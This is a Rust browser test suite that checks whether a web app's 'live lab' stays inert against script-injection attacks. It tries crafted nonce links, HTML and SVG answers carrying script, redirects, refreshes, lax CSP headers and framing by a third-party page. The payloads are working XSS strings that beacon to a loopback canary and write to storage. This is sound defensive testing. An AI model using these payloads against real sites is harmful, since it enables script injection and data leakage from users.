//! Attacks on the live lab, as an attacker would write them, in a real browser.
//!
//! The attacker controls links: direct links into the lab's path (in the old `?a=` form that
//! carried an answer, and with missing, random, replayed, live and expired nonces), permalinks
//! whose composed answer is HTML with script (run by a visitor who clicks "Run in this
//! browser"), and pages on another site that frame the lab. Every payload phones home to a
//! canary server on loopback, flags the top document, writes to the app's localStorage and
//! posts a message to the top window if any script of it runs. A test fails if any of those
//! happens anywhere; a control at the end shows that the same payload, served by a plain static
//! server, does set the canary off, so the detection itself can fail.

use std::time::{Duration, Instant};

use base64::Engine as _;
use nocontent_e2e::fixture::{copy_dir, temp_dir, write};
use nocontent_e2e::raw::{RawServer, Reply};
use nocontent_e2e::serve::StaticServer;
use nocontent_e2e::session::start_or_skip;
use nocontent_e2e::{need, App, Browser, Engine, Error, PATIENCE};
use nocontent_engine::Scenario;
use serde_json::{json, Value};

/// The harness's raw server as a canary: every request a payload makes reaches `/hit` and is
/// logged, whatever its method.
struct Canary {
    port: u16,
    server: RawServer,
}

impl Canary {
    fn start() -> Canary {
        let server = RawServer::start();
        server.route(
            "/hit",
            None,
            Reply::raw(
                "HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n",
                true,
            ),
        );
        Canary {
            port: server.port,
            server,
        }
    }

    /// Every request so far, as `METHOD target`.
    fn hits(&self) -> Vec<String> {
        self.server
            .requests()
            .into_iter()
            .map(|r| format!("{} {}", r.method, r.target))
            .collect()
    }
}

/// HTML that, if any of its script runs, reports to the canary and marks the app's origin.
fn payload(canary: u16) -> String {
    let report = format!(
        "var u='http://127.0.0.1:{canary}/h'+'it?at='+encodeURIComponent(String(location.href));\
         try{{navigator.sendBeacon(u,'x')}}catch(e){{}}\
         try{{fetch(u,{{mode:'no-cors'}})}}catch(e){{}}\
         try{{(new Image()).src=u+'&img'}}catch(e){{}}\
         try{{top.postMessage('nocontent-pwned','*')}}catch(e){{}}\
         try{{top.__nocontentPwned=(top.__nocontentPwned||0)+1}}catch(e){{}}\
         try{{localStorage.setItem('nocontent-pwned',String(location.href))}}catch(e){{}}"
    );
    format!(
        "<!doctype html><title>payload</title><p id=\"payload\">payload</p>\
         <script>{report}</script><img src=\"data:,\" onerror=\"{report}\">"
    )
}

fn svg_payload(canary: u16) -> String {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>new Image().src='http://127.0.0.1:{canary}/h'+'it?svg';\
         try{{top.__nocontentPwned=1}}catch(e){{}}</script></svg>"
    )
}

/// An answer in the form the old worker read from `?a=`: base64url JSON.
fn old_answer(body: &str, content_type: &str) -> String {
    let json = json!({ "s": 200, "r": "OK", "h": [["Content-Type", content_type]], "b": body });
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(json.to_string())
}

fn scenario(method: &str, kind: &str, headers: Value, body: &str) -> Scenario {
    scenario_with(200, method, kind, headers, body)
}

fn scenario_with(status: u16, method: &str, kind: &str, headers: Value, body: &str) -> Scenario {
    let json = json!({
        "request": { "method": method, "target": "/attack" },
        "client": { "kind": kind },
        "answer": { "status": status, "headers": headers, "body": body },
    });
    Scenario::from_json(&json.to_string()).unwrap_or_else(|e| panic!("{e:?}"))
}

/// Records, in the app's top document, any message a payload posts and every lab frame URL.
const WATCH: &str = "window.__pwnMessages = 0; window.__labSrcs = [];\
 window.addEventListener('message', function (e) { if (e.data === 'nocontent-pwned') window.__pwnMessages++; });\
 new MutationObserver(function (ms) { ms.forEach(function (m) {\
   if (m.target.tagName === 'IFRAME' && m.target.src) window.__labSrcs.push(m.target.src);\
   m.addedNodes.forEach(function (n) { if (n.tagName === 'IFRAME' && n.src) window.__labSrcs.push(n.src); });\
 }); }).observe(document.body, { childList: true, subtree: true, attributes: true, attributeFilter: ['src'] });\
 return true;";

/// What the payload would have left on the app's page: flags, messages, storage.
const TRACES: &str =
    "return { flag: window.__nocontentPwned || 0, messages: window.__pwnMessages || 0,\
 stored: localStorage.getItem('nocontent-pwned'), title: document.title };";

/// What any payload script left behind since the canary had `seen` hits, or None. Clears the
/// stored trace, so the next attack starts clean.
async fn script_traces(
    browser: &Browser,
    canary: &Canary,
    seen: usize,
) -> Result<Option<String>, Error> {
    let traces = browser.eval(TRACES).await?;
    browser
        .eval("localStorage.removeItem('nocontent-pwned'); return true;")
        .await?;
    // The start of each request line is enough to say which script phoned home.
    let hits: Vec<String> = canary
        .hits()
        .into_iter()
        .skip(seen)
        .map(|h| h.chars().take(60).collect())
        .collect();
    let clean = traces["flag"] == json!(0)
        && traces["messages"] == json!(0)
        && traces["stored"] == Value::Null
        && hits.is_empty();
    let stored: String = traces["stored"]
        .as_str()
        .unwrap_or("")
        .chars()
        .take(60)
        .collect();
    Ok((!clean).then(|| {
        format!(
            "a payload's script ran: flag {}, messages {}, stored {stored:?}, canary hits {hits:?}",
            traces["flag"], traces["messages"]
        )
    }))
}

/// Collects what went wrong in each attack, so one run reports every attack that succeeded.
#[derive(Default)]
struct Findings(Vec<String>);

impl Findings {
    fn check(&mut self, what: &str, problem: Option<String>) {
        if let Some(problem) = problem {
            self.0.push(format!("{what}: {problem}"));
        }
    }

    fn assert_none(self) {
        assert!(
            self.0.is_empty(),
            "attacks that got through:\n{}",
            self.0.join("\n")
        );
    }
}

async fn run_lab(browser: &Browser) -> Result<String, Error> {
    browser.click("#lab-run").await?;
    browser
        .wait_for_text("#lab", "a finished run", |t| {
            t.contains("checks match")
                || t.contains("check matches")
                || t.contains("checks differ")
                || t.contains("could not run")
        })
        .await
}

/// Registers a run with the worker from the app's page, as the app does; null when the worker
/// does not answer within two seconds (a worker that knows no such message).
async fn register(
    browser: &Browser,
    nonce: &str,
    answer: &Value,
    ttl: u64,
) -> Result<Value, Error> {
    let script = format!(
        "var done = arguments[arguments.length - 1];\
         navigator.serviceWorker.getRegistration('./lab/').then(function (reg) {{\
           var ch = new MessageChannel(); var t = setTimeout(function () {{ done(null); }}, 2000);\
           ch.port1.onmessage = function (e) {{ clearTimeout(t); done(e.data); }};\
           reg.active.postMessage({{ type: 'register', nonce: {nonce:?}, answer: {answer}, ttl: {ttl} }}, [ch.port2]);\
         }}).catch(function (e) {{ done(String(e)); }});"
    );
    browser.eval_async(&script, vec![]).await
}

/// Opens `url` in an iframe of the current page and returns the text its document shows, or
/// "(cross-origin)" when the page may not read it.
async fn frame_text(browser: &Browser, url: &str) -> Result<String, Error> {
    let script = format!(
        "var done = arguments[arguments.length - 1]; var f = document.createElement('iframe');\
         f.onload = function () {{ var t; try {{ t = f.contentDocument.body.innerText; }} catch (e) {{ t = '(cross-origin)'; }} f.remove(); done(t); }};\
         f.src = {url:?}; document.body.appendChild(f);"
    );
    Ok(browser
        .eval_async(&script, vec![])
        .await?
        .as_str()
        .unwrap_or_default()
        .to_string())
}

fn lab_page_shown(text: &str) -> bool {
    text.contains("nocontent live lab") && text.contains("Open nocontent")
}

async fn direct_links_into_the_lab_never_run_script_after_a_real_run_in(
    engine: Engine,
) -> Result<(), Error> {
    let test = "direct_links_into_the_lab_never_run_script_after_a_real_run";
    let Some(lab) = App::start(engine, test).await? else {
        return Ok(());
    };
    let canary = Canary::start();
    let (server, browser) = (&lab.server, &lab.browser);
    let app = server.url("/");
    browser.open_app(&app).await?;
    browser.eval(WATCH).await?;
    // A real run registers the worker, as a visitor's first click does.
    let summary = run_lab(browser).await?;
    assert!(
        summary.contains("checks match"),
        "the benign run failed: {summary}"
    );
    let srcs = browser.eval("return window.__labSrcs;").await?;
    let nonce = srcs
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|s| s.as_str()?.split("n=").nth(1))
        .map(|rest| rest.split('&').next().unwrap_or_default().to_string())
        .next()
        .unwrap_or_else(|| "0".repeat(32));
    let old = old_answer(&payload(canary.port), "text/html");
    let fresh = "0123456789abcdef0123456789abcdef";
    let attacks = [
        (
            "the old answer-in-the-URL link",
            format!("lab/x?a={old}&n=1"),
        ),
        ("a link without a nonce", format!("lab/x?a={old}")),
        (
            "a link with a random nonce",
            format!("lab/x?n={fresh}&q=1&a={old}"),
        ),
        (
            "a link with a replayed nonce",
            format!("lab/x?n={nonce}&q=1&a={old}"),
        ),
        (
            "the runner with a replayed nonce",
            format!("lab/runner?n={nonce}&a={old}"),
        ),
        (
            "the form page with a replayed nonce",
            format!("lab/form?n={nonce}&a={old}"),
        ),
        ("any other lab address", format!("lab/index.html?a={old}")),
    ];
    let mut findings = Findings::default();
    let back_to_app = || async {
        browser.goto(&app).await?;
        browser
            .wait_for_text("#status-line", "the app", |t| t.contains("HTTP/1.1"))
            .await?;
        Ok::<(), Error>(())
    };
    for (what, path) in &attacks {
        let seen = canary.hits().len();
        browser.goto(&server.url(&format!("/{path}"))).await?;
        let text = browser
            .wait_for_text("body", "a page", |t| !t.is_empty())
            .await?;
        back_to_app().await?;
        findings.check(what, script_traces(browser, &canary, seen).await?);
        findings.check(
            what,
            (!lab_page_shown(&text)).then(|| format!("not the lab's explanation page: {text:?}")),
        );
    }

    // A live run's nonce, registered as the app would: a top-level link to it is still refused.
    let answer = json!({ "s": 200, "r": "OK", "h": [["Content-Type", "text/html"]], "b": payload(canary.port) });
    let live = "fedcba9876543210fedcba9876543210";
    let what = "a top-level link with a live nonce";
    let seen = canary.hits().len();
    register(browser, live, &answer, 60_000).await?;
    browser
        .goto(&server.url(&format!("/lab/x?n={live}&q=1&a={old}")))
        .await?;
    let text = browser
        .wait_for_text("body", "a page", |t| !t.is_empty())
        .await?;
    back_to_app().await?;
    findings.check(what, script_traces(browser, &canary, seen).await?);
    findings.check(
        what,
        (!lab_page_shown(&text)).then(|| format!("not the lab's explanation page: {text:?}")),
    );

    // An expired nonce, in a frame of the app's own page (the referrer the lab itself has).
    let what = "an expired nonce in a same-origin frame";
    browser.eval(WATCH).await?;
    let seen = canary.hits().len();
    let expired = "00112233445566778899aabbccddeeff";
    register(browser, expired, &answer, 1).await?;
    let registered_at = Instant::now();
    // The worker's clock must have passed the 1 ms lifetime before the frame asks.
    while registered_at.elapsed() < Duration::from_millis(5) {
        tokio::task::yield_now().await;
    }
    let text = frame_text(
        browser,
        &server.url(&format!("/lab/x?n={expired}&q=1&a={old}")),
    )
    .await?;
    findings.check(what, script_traces(browser, &canary, seen).await?);
    findings.check(
        what,
        (!lab_page_shown(&text)).then(|| format!("not the lab's explanation page: {text:?}")),
    );

    // A page on another site frames the lab with a live nonce (and the old answer link).
    let what = "a page on another site framing the lab";
    let seen = canary.hits().len();
    let attacker_dir = temp_dir("attacker")?;
    let frames: String = [
        format!("lab/x?n={live}&q=2&a={old}"),
        format!("lab/x?a={old}&n=1"),
        format!("lab/form?n={live}"),
    ]
    .iter()
    .map(|p| format!("<iframe src=\"{}\"></iframe>", server.url(&format!("/{p}"))))
    .collect();
    write(
        &attacker_dir.path().join("index.html"),
        format!("<!doctype html><title>attacker</title>{frames}"),
    )?;
    let attacker = StaticServer::with_mount(attacker_dir.path().to_path_buf(), "/")?;
    browser
        .goto(&format!("http://localhost:{}/", attacker.port))
        .await?;
    browser
        .wait_for_eval(
            "return document.readyState;",
            "the attacker page to load",
            |v| v == "complete",
        )
        .await?;
    back_to_app().await?;
    findings.check(what, script_traces(browser, &canary, seen).await?);
    lab.browser.close().await;
    findings.assert_none();
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn direct_links_into_the_lab_never_run_script_after_a_real_run_in_chromium(
) -> Result<(), Error> {
    nocontent_e2e::once_more_if_hung(
        "direct_links_into_the_lab_never_run_script_after_a_real_run_in",
        || direct_links_into_the_lab_never_run_script_after_a_real_run_in(Engine::Chromium),
    )
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn direct_links_into_the_lab_never_run_script_after_a_real_run_in_firefox(
) -> Result<(), Error> {
    nocontent_e2e::once_more_if_hung(
        "direct_links_into_the_lab_never_run_script_after_a_real_run_in",
        || direct_links_into_the_lab_never_run_script_after_a_real_run_in(Engine::Firefox),
    )
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn direct_links_into_the_lab_never_run_script_after_a_real_run_in_webkit() -> Result<(), Error>
{
    nocontent_e2e::once_more_if_hung(
        "direct_links_into_the_lab_never_run_script_after_a_real_run_in",
        || direct_links_into_the_lab_never_run_script_after_a_real_run_in(Engine::Webkit),
    )
    .await
}

async fn permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in(
    engine: Engine,
) -> Result<(), Error> {
    let test = "permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab";
    let Some(lab) = App::start(engine, test).await? else {
        return Ok(());
    };
    let canary = Canary::start();
    let (server, browser) = (&lab.server, &lab.browser);
    // The payload on a plain static server of another origin: where a redirect or a refresh
    // would take a lab frame, and the control at the end.
    let control_dir = temp_dir("control")?;
    write(&control_dir.path().join("index.html"), payload(canary.port))?;
    let control = StaticServer::with_mount(control_dir.path().to_path_buf(), "/")?;
    let elsewhere = format!("http://localhost:{}/", control.port);
    let html = json!([["Content-Type", "text/html"]]);
    let cases = [
        (
            "a GET answered with HTML and script (link, location, iframe, GET form)",
            scenario("GET", "navigation", html.clone(), &payload(canary.port)),
        ),
        (
            "a POST form answered with HTML and script",
            scenario("POST", "form", html.clone(), &payload(canary.port)),
        ),
        (
            "an iframe answered with SVG and script",
            scenario(
                "GET",
                "iframe",
                json!([["Content-Type", "image/svg+xml"]]),
                &svg_payload(canary.port),
            ),
        ),
        (
            "an answer with no Content-Type, for sniffing",
            scenario("GET", "navigation", json!([]), &payload(canary.port)),
        ),
        (
            "an answer that sends its own lax policy and a cookie",
            scenario(
                "GET",
                "iframe",
                json!([
                    ["Content-Type", "text/html"],
                    [
                        "Content-Security-Policy",
                        "sandbox allow-scripts allow-same-origin"
                    ],
                    ["Set-Cookie", "nocontent-pwned=1; Path=/"],
                    ["Clear-Site-Data", "\"storage\""],
                ]),
                &payload(canary.port),
            ),
        ),
        (
            "a GET redirected to a page with script elsewhere",
            scenario_with(
                302,
                "GET",
                "navigation",
                json!([
                    ["Location", elsewhere.clone()],
                    ["Content-Type", "text/html"]
                ]),
                &payload(canary.port),
            ),
        ),
        (
            "a POST form answered with a 307 to a page with script elsewhere",
            scenario_with(
                307,
                "POST",
                "form",
                json!([["Location", elsewhere.clone()]]),
                "",
            ),
        ),
        (
            "an answer that refreshes to a page with script elsewhere",
            scenario(
                "GET",
                "iframe",
                json!([
                    ["Content-Type", "text/html"],
                    ["Refresh", format!("0; url={elsewhere}")],
                ]),
                &format!(
                    "<meta http-equiv=\"refresh\" content=\"0; url={elsewhere}\">{}",
                    payload(canary.port)
                ),
            ),
        ),
    ];
    let mut findings = Findings::default();
    for (what, scenario) in &cases {
        let seen = canary.hits().len();
        let link = format!(
            "{}#{}",
            server.url("/"),
            nocontent::permalink::encode(scenario)
        );
        browser.open_fresh(&link).await?;
        let status = scenario.answer.status.to_string();
        browser
            .wait_for_text("#status-line", "the linked answer", |t| t.contains(&status))
            .await?;
        browser.wait_for_app().await?;
        browser.eval(WATCH).await?;
        let result = run_lab(browser).await?;
        findings.check(what, script_traces(browser, &canary, seen).await?);
        findings.check(
            what,
            result.contains("could not run").then(|| result.clone()),
        );
        // The wire panel renders after the run's result: wait for it (a panel that never
        // fills reads as empty, and the check below reports it).
        let wire = browser
            .wait_for_eval(
                "return document.querySelector('#lab-wire')?.innerText ?? '';",
                "the lab's wire panel",
                |v| v.as_str().is_some_and(|t| !t.is_empty()),
            )
            .await
            .unwrap_or_default();
        let wire = wire.as_str().unwrap_or_default();
        let shown = wire.contains("Content-Security-Policy: sandbox")
            && wire.contains("X-Content-Type-Options: nosniff");
        findings.check(
            what,
            (!shown).then(|| format!("the lab does not show what it added: {wire:?}")),
        );
        if what.contains("cookie") {
            let left_out =
                wire.contains("Left out Set-Cookie") && wire.contains("Left out Clear-Site-Data");
            findings.check(
                what,
                (!left_out).then(|| format!("origin-wide headers not left out: {wire:?}")),
            );
            let cookie = browser.eval("return document.cookie;").await?;
            findings.check(
                what,
                (cookie != json!(""))
                    .then(|| format!("a cookie was set on the app's origin: {cookie}")),
            );
        }
    }
    findings.assert_none();

    // The control: the same payload from a plain static server does run, and is seen.
    browser.goto(&elsewhere).await?;
    let started = Instant::now();
    while canary.hits().is_empty() {
        assert!(
            started.elapsed() < PATIENCE,
            "the control payload never reached the canary: the detection is broken"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    lab.browser.close().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in_chromium(
) -> Result<(), Error> {
    nocontent_e2e::once_more_if_hung(
        "permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in",
        || permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in(Engine::Chromium),
    )
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in_firefox(
) -> Result<(), Error> {
    nocontent_e2e::once_more_if_hung(
        "permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in",
        || permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in(Engine::Firefox),
    )
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in_webkit(
) -> Result<(), Error> {
    nocontent_e2e::once_more_if_hung(
        "permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in",
        || permalinks_whose_answer_is_html_with_script_run_inert_in_the_lab_in(Engine::Webkit),
    )
    .await
}

async fn an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in(
    engine: Engine,
) -> Result<(), Error> {
    let test = "an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox";
    let Some(dist) = need::or_skip(test, need::dist())? else {
        return Ok(());
    };
    let Some(browser) = start_or_skip(engine, test).await? else {
        return Ok(());
    };
    let canary = Canary::start();
    let app_dir = temp_dir("embed-lab-app")?;
    copy_dir(&dist, app_dir.path())?;
    let server = StaticServer::with_mount(app_dir.path().to_path_buf(), "/")?;
    let benign = nocontent::permalink::encode(&scenario(
        "GET",
        "fetch",
        json!([["Content-Type", "text/plain"]]),
        "hello",
    ));
    let hostile = nocontent::permalink::encode(&scenario(
        "GET",
        "iframe",
        json!([["Content-Type", "text/html"]]),
        &payload(canary.port),
    ));
    let host_dir = temp_dir("embed-lab-host")?;
    let page = |query: &str, fragment: &str| {
        format!(
            "<!doctype html><title>docs</title><iframe id=\"e\" width=\"900\" height=\"1200\" src=\"{}?embed&amp;panels=browser{query}#{fragment}\" sandbox=\"{}\"></iframe>",
            server.url("/"),
            nocontent::embed::sandbox(query.contains("lab")),
        )
    };
    write(&host_dir.path().join("lab.html"), page("&amp;lab", &benign))?;
    write(&host_dir.path().join("plain.html"), page("", &benign))?;
    write(
        &host_dir.path().join("hostile.html"),
        page("&amp;lab", &hostile),
    )?;
    let host = StaticServer::with_mount(host_dir.path().to_path_buf(), "/")?;
    // localhost and 127.0.0.1 are different sites: the embed is truly third-party.
    let host_url = |name: &str| format!("http://localhost:{}/{name}", host.port);

    browser.goto(&host_url("plain.html")).await?;
    browser.enter_frame("#e").await?;
    browser.wait_for_app().await?;
    browser
        .wait_for_text("#browser", "the embed's browser panel", |t| {
            t.contains("fetch")
        })
        .await?;
    let has_lab = browser
        .eval("return !!document.querySelector('#lab-run');")
        .await?;
    assert_eq!(
        has_lab,
        json!(false),
        "an embed shows the lab without being asked to"
    );
    browser.leave_frame().await?;

    browser.goto(&host_url("lab.html")).await?;
    browser.enter_frame("#e").await?;
    browser.wait_for_app().await?;
    let result = run_lab(&browser).await?;
    assert!(
        result.contains("checks match"),
        "the lab inside the embed: {result}"
    );
    let lab = browser.text_of("#lab").await?;
    assert!(
        !lab.contains("cargo"),
        "readers of an embed see developer instructions: {lab}"
    );
    browser.leave_frame().await?;

    browser.goto(&host_url("hostile.html")).await?;
    browser.enter_frame("#e").await?;
    browser.wait_for_app().await?;
    browser.eval(WATCH).await?;
    let result = run_lab(&browser).await?;
    let traces = script_traces(&browser, &canary, 0).await?;
    assert_eq!(traces, None, "a hostile permalink run inside an embed");
    assert!(
        !result.contains("could not run"),
        "the hostile embed: {result}"
    );
    browser.leave_frame().await?;
    browser.close().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in_chromium(
) -> Result<(), Error> {
    nocontent_e2e::once_more_if_hung(
        "an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in",
        || {
            an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in(
                Engine::Chromium,
            )
        },
    )
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in_firefox(
) -> Result<(), Error> {
    nocontent_e2e::once_more_if_hung(
        "an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in",
        || {
            an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in(
                Engine::Firefox,
            )
        },
    )
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in_webkit(
) -> Result<(), Error> {
    nocontent_e2e::once_more_if_hung(
        "an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in",
        || {
            an_embed_on_another_site_runs_the_lab_only_when_asked_and_inside_its_sandbox_in(
                Engine::Webkit,
            )
        },
    )
    .await
}
